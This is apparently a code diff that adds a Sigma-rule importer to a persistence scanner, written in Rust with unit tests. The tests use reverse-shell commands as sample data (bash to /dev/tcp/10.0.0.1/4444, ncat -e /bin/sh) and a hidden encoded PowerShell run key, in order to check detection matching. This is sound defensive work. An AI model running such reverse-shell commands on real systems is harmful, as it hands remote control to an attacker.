@@ -0,0 +1,814 @@
+//! Sigma rule import (`persist-scan rules import-sigma`). Sigma describes events; a rule is
+//! converted when its logsource and fields describe something the collectors persist: a
+//! registry value, a file in an autostart location, or the command line a launcher runs.
+
+use anyhow::{anyhow, Result};
+use serde_yaml::{Mapping, Value};
+use std::path::Path;
+
+use super::attack::{self, AttackRef};
+use super::matcher::{CompiledRule, RuleOrigin};
+use super::rule::{Check, Confidence, FieldOp, Match, Rule, RuleTests, Severity};
+use super::{is_rule_file, TargetOs};
+
+/// A converted rule and the Sigma file it came from.
+pub struct ImportedRule {
+    pub file: String,
+    pub rule: Rule,
+}
+
+pub struct SigmaImport {
+    pub converted: Vec<ImportedRule>,
+    /// (file, why it could not be converted)
+    pub skipped: Vec<(String, String)>,
+}
+
+/// How a Sigma logsource is matched against artifacts.
+struct Target {
+    os: TargetOs,
+    kind: &'static str,
+    /// Artifact field a Sigma field maps to; None if this target does not record it
+    field: fn(&str) -> Option<&'static str>,
+}
+
+/// Registry keys (as they appear in TargetObject) and the artifact kind collected from them.
+const REGISTRY_KINDS: &[(&str, &str)] = &[
+    ("\\currentversion\\run", "windows_run_key"),
+    ("\\services\\", "windows_service"),
+    ("\\image file execution options\\", "windows_ifeo"),
+    ("\\silentprocessexit\\", "windows_ifeo"),
+    ("\\winlogon\\", "windows_winlogon"),
+    ("\\appcertdlls", "windows_appcert"),
+    ("\\appinit_dlls", "windows_appinit"),
+    ("\\control\\lsa", "windows_lsa_package"),
+    ("\\print\\monitors", "windows_print_monitor"),
+    ("\\inprocserver32", "windows_com_hijack"),
+    ("\\localserver32", "windows_com_hijack"),
+];
+
+/// File locations (as they appear in TargetFilename) and the artifact kind collected from them.
+const FILE_KINDS: &[(TargetOs, &str, &str)] = &[
+    (TargetOs::Windows, "\\start menu\\programs\\startup", "windows_startup_folder"),
+    (TargetOs::Windows, "\\system32\\tasks\\", "windows_scheduled_task"),
+    (TargetOs::Linux, "/autostart/", "linux_autostart"),
+    (TargetOs::Linux, "cron", "linux_user_crontab"),
+    (TargetOs::MacOs, "/launchagents/", "macos_launch_agent"),
+    (TargetOs::MacOs, "/launchdaemons/", "macos_launch_daemon"),
+    (TargetOs::MacOs, "/periodic/", "macos_periodic"),
+];
+
+/// Kinds whose artifacts carry a command line that runs on its own (process_creation rules).
+const LAUNCHER_KINDS: &[(TargetOs, &str)] = &[
+    (TargetOs::Windows, "windows_run_key"),
+    (TargetOs::Windows, "windows_scheduled_task"),
+    (TargetOs::Windows, "windows_service"),
+    (TargetOs::Windows, "windows_startup_folder"),
+    (TargetOs::Windows, "windows_wmi_subscription"),
+    (TargetOs::Linux, "linux_autostart"),
+    (TargetOs::Linux, "linux_user_crontab"),
+    (TargetOs::MacOs, "macos_launch_agent"),
+    (TargetOs::MacOs, "macos_launch_daemon"),
+    (TargetOs::MacOs, "macos_login_item"),
+    (TargetOs::MacOs, "macos_periodic"),
+];
+
+fn process_field(f: &str) -> Option<&'static str> {
+    match f {
+        "CommandLine" => Some("command"),
+        "Image" => Some("path"),
+        "User" => Some("user"),
+        _ => None,
+    }
+}
+
+fn registry_field(f: &str) -> Option<&'static str> {
+    match f {
+        "TargetObject" => Some("value_path"),
+        "Details" => Some("command"),
+        _ => None,
+    }
+}
+
+/// The startup folder keeps the folder as source and the file as name; elsewhere the file is the source.
+fn startup_file_field(f: &str) -> Option<&'static str> {
+    (f == "TargetFilename").then_some("value_path")
+}
+
+fn file_field(f: &str) -> Option<&'static str> {
+    (f == "TargetFilename").then_some("source")
+}
+
+/// Convert every Sigma rule (*.yml, *.yaml) under `dir`.
+pub fn import_sigma_dir(dir: &str) -> Result<SigmaImport> {
+    if !Path::new(dir).is_dir() {
+        return Err(anyhow!("Sigma rules directory not found: {}", dir));
+    }
+
+    let mut out = SigmaImport { converted: vec![], skipped: vec![] };
+    for entry in walkdir::WalkDir::new(dir).sort_by_file_name() {
+        let entry = entry?;
+        if !entry.file_type().is_file() || !is_rule_file(entry.path()) {
+            continue;
+        }
+        let file = entry.path().display().to_string();
+        let bytes = std::fs::read(entry.path())?;
+        match convert_file(&bytes, &file) {
+            Ok(rules) => {
+                for mut rule in rules {
+                    rule.id = unique_id(&rule.id, &out.converted);
+                    out.converted.push(ImportedRule { file: file.clone(), rule });
+                }
+            }
+            Err(e) => out.skipped.push((file, format!("{:#}", e))),
+        }
+    }
+    Ok(out)
+}
+
+fn unique_id(id: &str, taken: &[ImportedRule]) -> String {
+    let mut candidate = id.to_string();
+    let mut n = 2;
+    while taken.iter().any(|r| r.rule.id == candidate) {
+        candidate = format!("{}_{}", id, n);
+        n += 1;
+    }
+    candidate
+}
+
+/// One Sigma file into one rule per artifact kind it applies to.
+fn convert_file(bytes: &[u8], file: &str) -> Result<Vec<Rule>> {
+    let doc: Value = serde_yaml::from_slice(bytes).map_err(|e| {
+        if e.to_string().contains("more than one document") {
+            anyhow!("multi-document rule collections are not supported")
+        } else {
+            anyhow!("invalid YAML: {}", e)
+        }
+    })?;
+    let title = str_field(&doc, "title").ok_or_else(|| anyhow!("no title (not a Sigma rule?)"))?;
+    let detection = doc
+        .get("detection")
+        .and_then(Value::as_mapping)
+        .ok_or_else(|| anyhow!("no detection section"))?;
+
+    if detection.contains_key("timeframe") {
+        return Err(anyhow!("correlations over a timeframe are not supported"));
+    }
+    let targets = targets(&doc, detection)?;
+    let condition = condition_text(detection)?;
+
+    let mut rules = vec![];
+    for target in &targets {
+        let r#match = parse_condition(&condition, detection, target)?;
+        let rule = Rule {
+            id: rule_id(&title, &targets, target),
+            title: title.clone(),
+            os: target.os.as_str().to_string(),
+            severity: severity(str_field(&doc, "level").as_deref()),
+            confidence: confidence(str_field(&doc, "status").as_deref()),
+            tags: tags(&doc),
+            attack: attack_refs(&doc),
+            rationale: rationale(&doc, &title, file),
+            check: Check { kind: target.kind.to_string(), scope: None },
+            r#match,
+            tests: RuleTests::default(),
+        };
+        // Catches bad regexes and the like before anything is written
+        CompiledRule::compile(rule.clone(), RuleOrigin::File { path: file.to_string(), overrides: false })?;
+        rules.push(rule);
+    }
+    Ok(rules)
+}
+
+/// The artifact kinds a rule applies to, from its logsource and the keys or files it names.
+fn targets(doc: &Value, detection: &Mapping) -> Result<Vec<Target>> {
+    let logsource = doc.get("logsource").ok_or_else(|| anyhow!("no logsource"))?;
+    let product = str_field(logsource, "product").unwrap_or_default();
+    let Some(category) = str_field(logsource, "category") else {
+        let service = str_field(logsource, "service").unwrap_or_default();
+        return Err(anyhow!("logsource without a category (service '{}') is not supported", service));
+    };
+    let os = match product.as_str() {
+        "windows" => TargetOs::Windows,
+        "linux" => TargetOs::Linux,
+        "macos" => TargetOs::MacOs,
+        other => return Err(anyhow!("logsource product '{}' is not supported", other)),
+    };
+
+    let mut out: Vec<Target> = vec![];
+    let mut add = |kind: &'static str, field: fn(&str) -> Option<&'static str>| {
+        if !out.iter().any(|t| t.kind == kind) {
+            out.push(Target { os, kind, field });
+        }
+    };
+    match category.as_str() {
+        "process_creation" => {
+            for (_, kind) in LAUNCHER_KINDS.iter().filter(|(o, _)| *o == os) {
+                add(kind, process_field);
+            }
+        }
+        "registry_set" | "registry_add" | "registry_event" if os == TargetOs::Windows => {
+            for value in field_values(detection, "TargetObject") {
+                let value = value.to_lowercase();
+                for (key, kind) in REGISTRY_KINDS {
+                    if value.contains(key) {
+                        add(kind, registry_field);
+                    }
+                }
+            }
+        }
+        "file_event" => {
+            for value in field_values(detection, "TargetFilename") {
+                let value = value.to_lowercase();
+                for (_, marker, kind) in FILE_KINDS.iter().filter(|(o, _, _)| *o == os) {
+                    if value.contains(marker) {
+                        add(kind, if *kind == "windows_startup_folder" { startup_file_field } else { file_field });
+                    }
+                }
+            }
+        }
+        other => return Err(anyhow!("logsource category '{}' ({}) is not supported", other, product)),
+    }
+
+    if out.is_empty() {
+        return Err(anyhow!(
+            "the {} {} locations it names are not collected as persistence artifacts",
+            product,
+            category
+        ));
+    }
+    Ok(out)
+}
+
+/// Every string value given for `field` (with any modifiers) in the search identifiers.
+fn field_values(detection: &Mapping, field: &str) -> Vec<String> {
+    let mut out = vec![];
+    let mut visit_map = |m: &Mapping| {
+        for (k, v) in m {
+            let Some(key) = k.as_str() else { continue };
+            if key.split('|').next() == Some(field) {
+                match v {
+                    Value::Sequence(items) => out.extend(items.iter().filter_map(scalar)),
+                    other => out.extend(scalar(other)),
+                }
+            }
+        }
+    };
+    for (name, search) in detection {
+        if name.as_str() == Some("condition") {
+            continue;
+        }
+        match search {
+            Value::Mapping(m) => visit_map(m),
+            Value::Sequence(items) => items.iter().filter_map(Value::as_mapping).for_each(&mut visit_map),
+            _ => {}
+        }
+    }
+    out
+}
+
+fn condition_text(detection: &Mapping) -> Result<String> {
+    match detection.get("condition") {
+        Some(Value::String(s)) => Ok(s.clone()),
+        // A list of conditions means any of them
+        Some(Value::Sequence(items)) => {
+            let parts: Vec<String> = items.iter().filter_map(Value::as_str).map(|c| format!("({})", c)).collect();
+            if parts.len() != items.len() || parts.is_empty() {
+                return Err(anyhow!("condition list must hold strings"));
+            }
+            Ok(parts.join(" or "))
+        }
+        _ => Err(anyhow!("no detection condition")),
+    }
+}
+
+// ---- condition expressions ----
+
+#[derive(Debug, Clone, PartialEq)]
+enum Token {
+    Open,
+    Close,
+    And,
+    Or,
+    Not,
+    /// `1 of X` (false) or `all of X` (true)
+    Of(bool, String),
+    Ident(String),
+}
+
+fn tokenize(cond: &str) -> Result<Vec<Token>> {
+    if cond.contains('|') {
+        return Err(anyhow!("aggregations in the condition ('|') are not supported"));
+    }
+    let spaced = cond.replace('(', " ( ").replace(')', " ) ");
+    let words: Vec<&str> = spaced.split_whitespace().collect();
+    let mut out = vec![];
+    let mut i = 0;
+    while i < words.len() {
+        let w = words[i];
+        let token = match w.to_lowercase().as_str() {
+            "(" => Token::Open,
+            ")" => Token::Close,
+            "and" => Token::And,
+            "or" => Token::Or,
+            "not" => Token::Not,
+            q @ ("1" | "all" | "any") if words.get(i + 1).map(|s| s.to_lowercase()) == Some("of".to_string()) => {
+                let target = words.get(i + 2).ok_or_else(|| anyhow!("'{} of' without a target", q))?;
+                i += 2;
+                Token::Of(q == "all", target.to_string())
+            }
+            _ => Token::Ident(w.to_string()),
+        };
+        out.push(token);
+        i += 1;
+    }
+    Ok(out)
+}
+
+struct CondParser<'a> {
+    tokens: Vec<Token>,
+    pos: usize,
+    detection: &'a Mapping,
+    target: &'a Target,
+}
+
+/// Parse a Sigma condition into a match block: `and` becomes `all`, `or` becomes `any`.
+fn parse_condition(cond: &str, detection: &Mapping, target: &Target) -> Result<Match> {
+    let mut p = CondParser { tokens: tokenize(cond)?, pos: 0, detection, target };
+    let m = p.or_expr()?;
+    if p.pos != p.tokens.len() {
+        return Err(anyhow!("could not parse condition '{}'", cond));
+    }
+    Ok(m)
+}
+
+impl CondParser<'_> {
+    fn peek(&self) -> Option<&Token> {
+        self.tokens.get(self.pos)
+    }
+
+    fn or_expr(&mut self) -> Result<Match> {
+        let mut parts = vec![self.and_expr()?];
+        while self.peek() == Some(&Token::Or) {
+            self.pos += 1;
+            parts.push(self.and_expr()?);
+        }
+        Ok(combine(parts, false))
+    }
+
+    fn and_expr(&mut self) -> Result<Match> {
+        let mut parts = vec![self.unary()?];
+        while self.peek() == Some(&Token::And) {
+            self.pos += 1;
+            parts.push(self.unary()?);
+        }
+        Ok(combine(parts, true))
+    }
+
+    fn unary(&mut self) -> Result<Match> {
+        let token = self.tokens.get(self.pos).cloned().ok_or_else(|| anyhow!("condition ends early"))?;
+        self.pos += 1;
+        match token {
+            Token::Not => Ok(Match { not: Some(Box::new(self.unary()?)), ..Default::default() }),
+            Token::Open => {
+                let inner = self.or_expr()?;
+                if self.peek() != Some(&Token::Close) {
+                    return Err(anyhow!("unbalanced parentheses in condition"));
+                }
+                self.pos += 1;
+                Ok(inner)
+            }
+            Token::Of(all, pattern) => {
+                let mut parts = vec![];
+                for (name, search) in self.detection {
+                    let Some(name) = name.as_str() else { continue };
+                    if name != "condition" && name_matches(&pattern, name) {
+                        parts.push(search_block(name, search, self.target)?);
+                    }
+                }
+                if parts.is_empty() {
+                    return Err(anyhow!("'{}' matches no search identifier", pattern));
+                }
+                Ok(combine(parts, all))
+            }
+            Token::Ident(name) => {
+                let search = self
+                    .detection
+                    .get(name.as_str())
+                    .ok_or_else(|| anyhow!("condition names undefined search identifier '{}'", name))?;
+                search_block(&name, search, self.target)
+            }
+            other => Err(anyhow!("unexpected {:?} in condition", other)),
+        }
+    }
+}
+
+/// One block for `parts` joined by and (`all`) or or (`any`), splicing in parts that are
+/// themselves nothing but the same kind of join.
+fn combine(parts: Vec<Match>, all: bool) -> Match {
+    let mut flat = vec![];
+    for mut p in parts {
+        let bare = p.field.is_none() && p.not.is_none() && !p.has_flat_criteria();
+        if bare && all && p.any.is_empty() {
+            flat.append(&mut p.all);
+        } else if bare && !all && p.all.is_empty() {
+            flat.append(&mut p.any);
+        } else {
+            flat.push(p);
+        }
+    }
+    match (flat.len(), all) {
+        (1, _) => flat.remove(0),
+        (_, true) => Match { all: flat, ..Default::default() },
+        (_, false) => Match { any: flat, ..Default::default() },
+    }
+}
+
+/// `them` or a search identifier name with `*` wildcards.
+fn name_matches(pattern: &str, name: &str) -> bool {
+    if pattern == "them" {
+        return !name.starts_with('_');
+    }
+    match pattern.split_once('*') {
+        Some((prefix, suffix)) => name.starts_with(prefix) && name[prefix.len()..].ends_with(suffix),
+        None => pattern == name,
+    }
+}
+
+// ---- search identifiers ----
+
+/// A map is an AND of its field conditions; a list of maps is an OR of them.
+fn search_block(name: &str, search: &Value, target: &Target) -> Result<Match> {
+    match search {
+        Value::Mapping(m) => map_block(m, target),
+        Value::Sequence(items) if items.iter().all(Value::is_mapping) => {
+            let parts = items.iter().filter_map(Value::as_mapping).map(|m| map_block(m, target)).collect::<Result<_>>()?;
+            Ok(combine(parts, false))
+        }
+        _ => Err(anyhow!("search '{}' uses keywords; only field conditions are supported", name)),
+    }
+}
+
+fn map_block(m: &Mapping, target: &Target) -> Result<Match> {
+    let mut parts = vec![];
+    for (k, v) in m {
+        let key = k.as_str().ok_or_else(|| anyhow!("non-string field name"))?;
+        parts.push(field_condition(key, v, target)?);
+    }
+    Ok(combine(parts, true))
+}
+
+/// `Field|modifier|...: value or [values]` as one block; values are alternatives unless `|all`.
+fn field_condition(key: &str, value: &Value, target: &Target) -> Result<Match> {
+    let mut parts = key.split('|');
+    let sigma_field = parts.next().unwrap_or_default();
+    let field = (target.field)(sigma_field)
+        .ok_or_else(|| anyhow!("field '{}' has no equivalent in collected artifacts", sigma_field))?;
+
+    let (mut placement, mut regex, mut all, mut cased) = (Placement::Exact, false, false, false);
+    for modifier in parts {
+        match modifier {
+            "contains" => placement = Placement::Contains,
+            "startswith" => placement = Placement::Prefix,
+            "endswith" => placement = Placement::Suffix,
+            "re" => regex = true,
+            "all" => all = true,
+            "cased" => cased = true,
+            other => return Err(anyhow!("modifier '{}' on field '{}' is not supported", other, sigma_field)),
+        }
+    }
+
+    let values: Vec<String> = match value {
+        Value::Sequence(items) => items.iter().map(|v| scalar(v).ok_or_else(|| null_error(sigma_field))).collect::<Result<_>>()?,
+        other => vec![scalar(other).ok_or_else(|| null_error(sigma_field))?],
+    };
+
+    // Sigma regexes are case-sensitive; everything else ignores case unless |cased
+    let blocks: Vec<Match> = values
+        .iter()
+        .map(|v| {
+            let (op, operand, case_sensitive) = if regex {
+                (FieldOp::Regex, v.clone(), true)
+            } else if let Some(pattern) = wildcard_regex(v, placement) {
+                (FieldOp::Regex, pattern, cased)
+            } else {
+                (placement.op(), v.clone(), cased)
+            };
+            Match {
+                field: Some(field.to_string()),
+                op: Some(op),
+                value: Some(operand),
+                case_sensitive,
+                ..Default::default()
+            }
+        })
+        .collect();
+
+    if all {
+        return Ok(combine(blocks, true));
+    }
+    // Alternatives sharing an op collapse into one condition with `values`
+    let mut merged: Vec<Match> = vec![];
+    for b in blocks {
+        match merged.iter_mut().find(|m| m.op == b.op && m.case_sensitive == b.case_sensitive) {
+            Some(m) => m.values.extend(b.value),
+            None => merged.push(b),
+        }
+    }
+    for m in &mut merged {
+        if !m.values.is_empty() {
+            m.values.insert(0, m.value.take().unwrap_or_default());
+        }
+    }
+    Ok(combine(merged, false))
+}
+
+fn null_error(field: &str) -> anyhow::Error {
+    anyhow!("field '{}' tests for an empty or missing value, which is not supported", field)
+}
+
+#[derive(Clone, Copy)]
+enum Placement {
+    Exact,
+    Contains,
+    Prefix,
+    Suffix,
+}
+
+impl Placement {
+    fn op(self) -> FieldOp {
+        match self {
+            Placement::Exact => FieldOp::Equals,
+            Placement::Contains => FieldOp::Contains,
+            Placement::Prefix => FieldOp::Prefix,
+            Placement::Suffix => FieldOp::Suffix,
+        }
+    }
+}
+
+/// A regex for a value with Sigma wildcards (`*`, `?`; `\*` and `\?` are literal), or None
+/// when the value has none.
+fn wildcard_regex(value: &str, placement: Placement) -> Option<String> {
+    let mut pattern = String::new();
+    let mut wild = false;
+    let mut chars = value.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if matches!(chars.peek(), Some('*' | '?')) => {
+                pattern.push_str(&regex::escape(&chars.next().unwrap_or_default().to_string()));
+            }
+            '*' => {
+                wild = true;
+                pattern.push_str(".*");
+            }
+            '?' => {
+                wild = true;
+                pattern.push('.');
+            }
+            other => pattern.push_str(&regex::escape(&other.to_string())),
+        }
+    }
+    if !wild {
+        return None;
+    }
+    Some(match placement {
+        Placement::Exact => format!("^{}$", pattern),
+        Placement::Contains => pattern,
+        Placement::Prefix => format!("^{}", pattern),
+        Placement::Suffix => format!("{}$", pattern),
+    })
+}
+
+// ---- metadata ----
+
+fn scalar(v: &Value) -> Option<String> {
+    match v {
+        Value::String(s) => Some(s.clone()),
+        Value::Number(n) => Some(n.to_string()),
+        Value::Bool(b) => Some(b.to_string()),
+        _ => None,
+    }
+}
+
+fn str_field(v: &Value, key: &str) -> Option<String> {
+    v.get(key).and_then(Value::as_str).map(str::to_string)
+}
+
+/// SIGMA_<TITLE>, with the kind appended when one Sigma rule becomes several.
+fn rule_id(title: &str, targets: &[Target], target: &Target) -> String {
+    let mut slug: String = title
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_uppercase() } else { '_' })
+        .collect();
+    while slug.contains("__") {
+        slug = slug.replace("__", "_");
+    }
+    let slug: String = slug.trim_matches('_').chars().take(48).collect();
+    let mut id = format!("SIGMA_{}", slug.trim_end_matches('_'));
+    if targets.len() > 1 {
+        let kind = target.kind.split_once('_').map(|(_, k)| k).unwrap_or(target.kind);
+        id.push('_');
+        id.push_str(&kind.to_uppercase());
+    }
+    id
+}
+
+fn severity(level: Option<&str>) -> Severity {
+    match level {
+        Some("high" | "critical") => Severity::High,
+        Some("medium") => Severity::Medium,
+        _ => Severity::Low,
+    }
+}
+
+fn confidence(status: Option<&str>) -> Confidence {
+    match status {
+        Some("stable") => Confidence::High,
+        Some("test") => Confidence::Medium,
+        _ => Confidence::Low,
+    }
+}
+
+fn sigma_tags(doc: &Value) -> Vec<String> {
+    let tags = doc.get("tags").and_then(Value::as_sequence);
+    tags.into_iter().flatten().filter_map(Value::as_str).map(str::to_lowercase).collect()
+}
+
+fn tags(doc: &Value) -> Vec<String> {
+    let mut out = vec!["sigma".to_string()];
+    out.extend(sigma_tags(doc));
+    out
+}
+
+/// `attack.tNNNN[.NNN]` tags, each under the rule's `attack.<tactic>` tags that the technique
+/// belongs to (or its first tactic). Techniques missing from the bundled table are dropped.
+fn attack_refs(doc: &Value) -> Vec<AttackRef> {
+    let tags = sigma_tags(doc);
+    let tactics: Vec<String> = tags
+        .iter()
+        .filter_map(|t| t.strip_prefix("attack."))
+        .filter(|t| !t.starts_with('t') || !t[1..].starts_with(|c: char| c.is_ascii_digit()))
+        .map(|t| t.replace('_', "-"))
+        .collect();
+
+    let mut out = vec![];
+    for tag in &tags {
+        let Some(id) = tag.strip_prefix("attack.t").filter(|t| t.starts_with(|c: char| c.is_ascii_digit())) else {
+            continue;
+        };
+        let technique = format!("T{}", id);
+        if attack::technique_name(&technique).is_none() {
+            continue;
+        }
+        let allowed = attack::tactics(&technique);
+        let mut chosen: Vec<&str> = allowed.iter().copied().filter(|t| tactics.iter().any(|x| x == t)).collect();
+        if chosen.is_empty() {
+            chosen.extend(allowed.first());
+        }
+        for tactic in chosen {
+            out.push(AttackRef { technique: technique.clone(), tactic: tactic.to_string() });
+        }
+    }
+    out
+}
+
+fn rationale(doc: &Value, title: &str, file: &str) -> String {
+    let mut s = str_field(doc, "description").unwrap_or_else(|| title.to_string()).trim().to_string();
+    let id = str_field(doc, "id").unwrap_or_else(|| "without id".to_string());
+    let name = Path::new(file).file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default();
+    s.push_str(&format!(" (Imported from Sigma rule {}, {}.)", id, name));
+    let fps: Vec<&str> = doc
+        .get("falsepositives")
+        .and_then(Value::as_sequence)
+        .into_iter()
+        .flatten()
+        .filter_map(Value::as_str)
+        .collect();
+    if !fps.is_empty() {
+        s.push_str(&format!(" False positives: {}.", fps.join("; ")));
+    }
+    s
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::engine::content::{ArtifactFiles, FileSource};
+    use crate::engine::matcher::rule_matches;
+    use crate::engine::Artifact;
+
+    /// Sigma rules under `rules/`; `expected/<os>/<ID>.yml` is what `rules import-sigma` writes for them.
+    const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/sigma");
+
+    struct NoFiles;
+
+    impl FileSource for NoFiles {
+        fn file_size(&self, _path: &str) -> Option<u64> {
+            None
+        }
+
+        fn read_file(&self, _path: &str) -> Option<Vec<u8>> {
+            None
+        }
+    }
+
+    fn import() -> SigmaImport {
+        import_sigma_dir(&format!("{}/rules", FIXTURES)).unwrap()
+    }
+
+    fn compiled(import: &SigmaImport, id: &str) -> CompiledRule {
+        let rule = import.converted.iter().find(|r| r.rule.id == id).unwrap_or_else(|| panic!("no rule {}", id));
+        CompiledRule::compile(rule.rule.clone(), RuleOrigin::BuiltIn { path: "sigma".to_string() }).unwrap()
+    }
+
+    fn artifact(kind: &str, source: &str, name: &str, path: &str, command: &str) -> Artifact {
+        Artifact {
+            kind: kind.to_string(),
+            source: source.to_string(),
+            name: name.to_string(),
+            user: None,
+            command: Some(command.to_string()),
+            path: Some(path.to_string()),
+            raw: None,
+            attrs: Default::default(),
+        }
+    }
+
+    fn matches(rule: &CompiledRule, art: &Artifact) -> bool {
+        rule_matches(rule, art, &ArtifactFiles::new(&NoFiles, art))
+    }
+
+    #[test]
+    fn converted_rules_match_expected_output() {
+        let import = import();
+        let ids: Vec<&str> = import.converted.iter().map(|r| r.rule.id.as_str()).collect();
+        assert_eq!(
+            ids,
+            [
+                "SIGMA_LAUNCH_AGENT_WITH_RANDOM_REVERSE_DNS_NAME",
+                "SIGMA_REVERSE_SHELL_STARTED_FROM_PERSISTENCE_AUTOSTART",
+                "SIGMA_REVERSE_SHELL_STARTED_FROM_PERSISTENCE_USER_CRONTAB",
+                "SIGMA_RUN_KEY_STARTS_HIDDEN_POWERSHELL",
+            ]
+        );
+        for imported in &import.converted {
+            let rule = &imported.rule;
+            let path = format!("{}/expected/{}/{}.yml", FIXTURES, rule.os, rule.id);
+            let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {}", path, e));
+            assert_eq!(serde_yaml::to_string(rule).unwrap(), expected, "{}", path);
+        }
+    }
+
+    #[test]
+    fn unsupported_logsources_are_skipped_with_a_reason() {
+        let skipped: Vec<(String, String)> = import()
+            .skipped
+            .into_iter()
+            .map(|(file, why)| (Path::new(&file).file_name().unwrap().to_string_lossy().to_string(), why))
+            .collect();
+        assert_eq!(
+            skipped,
+            [
+                (
+                    "network_connection_unsupported.yml".to_string(),
+                    "logsource category 'network_connection' (windows) is not supported".to_string()
+                ),
+                (
+                    "security_service_unsupported.yml".to_string(),
+                    "logsource without a category (service 'system') is not supported".to_string()
+                ),
+            ]
+        );
+    }
+
+    #[test]
+    fn one_of_selections_with_a_filter() {
+        let rule = compiled(&import(), "SIGMA_REVERSE_SHELL_STARTED_FROM_PERSISTENCE_USER_CRONTAB");
+        let cron = |path: &str, command: &str| artifact("linux_user_crontab", "/var/spool/cron/alice", "", path, command);
+        assert!(matches(&rule, &cron("/bin/bash", "/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")));
+        assert!(matches(&rule, &cron("/usr/bin/ncat", "/usr/bin/ncat 10.0.0.1 4444 -e /bin/sh")));
+        // Both parts of the netcat selection must hold
+        assert!(!matches(&rule, &cron("/usr/bin/ncat", "/usr/bin/ncat -l 8080")));
+        assert!(!matches(&rule, &cron("/opt/lab/nc", "/opt/lab/nc 10.0.0.1 4444 -e /bin/sh")));
+    }
+
+    #[test]
+    fn all_of_them_with_contains_all() {
+        let rule = compiled(&import(), "SIGMA_RUN_KEY_STARTS_HIDDEN_POWERSHELL");
+        let source = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run";
+        let run = |command: &str| artifact("windows_run_key", source, "Updater", "powershell.exe", command);
+        assert!(matches(&rule, &run("PowerShell.exe -W Hidden -enc AAAA")));
+        assert!(!matches(&rule, &run("powershell.exe -enc AAAA")));
+        let mut other_key = run("powershell.exe -w hidden");
+        other_key.source = r"HKLM\SOFTWARE\Classes\x".to_string();
+        assert!(!matches(&rule, &other_key));
+    }
+
+    #[test]
+    fn re_modifier_is_case_sensitive() {
+        let rule = compiled(&import(), "SIGMA_LAUNCH_AGENT_WITH_RANDOM_REVERSE_DNS_NAME");
+        let agent = |source: &str| artifact("macos_launch_agent", source, "", "/tmp/x", "/tmp/x");
+        assert!(matches(&rule, &agent("/Users/bob/Library/LaunchAgents/com.qwerty1234.plist")));
+        assert!(!matches(&rule, &agent("/Users/bob/Library/LaunchAgents/com.Qwerty1234.plist")));
+        assert!(!matches(&rule, &agent("/Users/bob/Library/LaunchAgents/com.apple.plist")));
+    }
+}